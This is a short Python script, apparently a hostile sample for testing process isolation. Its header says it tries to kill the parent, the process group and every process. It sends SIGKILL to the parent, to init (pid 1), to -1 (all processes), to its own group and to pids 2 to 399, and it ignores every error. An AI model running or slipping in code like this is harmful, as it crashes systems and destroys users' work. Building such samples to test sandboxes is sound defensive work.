# What it tries: Send a kill signal to the parent, to the group, to everything.
import os
import signal

for pid in (os.getppid(), 1, -1, 0, -os.getpgrp() if os.getpgrp() > 1 else 1, *range(2, 400)):
    if pid == os.getpid():
        continue
    for send in (os.kill, lambda pid, number: os.killpg(abs(pid), number)):
        try:
            send(pid, signal.SIGKILL)
        except OSError:
            pass
